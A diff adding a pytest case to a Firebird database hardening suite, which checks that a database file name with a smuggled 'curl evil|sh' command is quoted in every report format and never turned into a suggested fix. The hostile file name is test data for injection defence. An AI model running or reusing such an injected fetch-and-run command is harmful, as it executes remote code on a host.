@@ -5,10 +5,14 @@
 
 from __future__ import annotations
 
+import html
 import json
+import re
+import shlex
 import subprocess
 import time
 from typing import Any
+from xml.etree import ElementTree
 
 import pytest
 from support.runs import Playbooks, Run
@@ -401,6 +405,39 @@ class TestFirebird:
         sh(machine, "systemctl stop client")
         assert playbooks.run("harden-db").code == 0
         assert forced(machine, ALIAS)
+
+    def test_a_database_whose_name_looks_like_advice_is_a_name_in_quotes_in_each_output(
+        self, machine: Machine, playbooks: Playbooks
+    ) -> None:
+        hostile = "/srv/fbdata/data/a; curl evil|sh #.fdb"
+        name = f'"{hostile}"'
+        as_firebird(machine, f"cp {BARE} '{hostile}'; gfix -write async '{hostile}'")
+        try:
+            run = playbooks.run(
+                "harden-db",
+                "--check",
+                variables={"durable_report_formats": ["json", "text", "html", "junit", "sarif"]},
+            )
+        finally:
+            as_firebird(machine, f"rm -f '{hostile}'")
+        report = run.reports[HOST]
+        assert (run.code, report["verdict"]) == (2, "at_risk")
+        assert [row["target"] for row in report["settings"] if row["verdict"] == "drift_running"] == [hostile]
+        directory = playbooks.directory / "durable-report"
+        junit = ElementTree.parse(directory / "report.xml")
+        sarif = json.loads((directory / "report.sarif").read_text())
+        shown = {
+            "page": " ".join(run.output.split()),
+            "text": run.details,
+            "html": html.unescape((directory / "report.html").read_text()),
+            "junit": "\n".join(str(value) for each in junit.iter() for value in each.attrib.values()),
+            "sarif": "\n".join(each["message"]["text"] for each in sarif["runs"][0]["results"]),
+        }
+        for output, text in shown.items():
+            assert name in text, output
+            assert not re.search(r"(do|fix): curl", text, re.I), output
+        fixes = [each["fix"] for each in report["reasons"]]
+        assert all("curl" not in fix.replace(shlex.quote(hostile), "") for fix in fixes)
 
 
 class TestUnattributed:
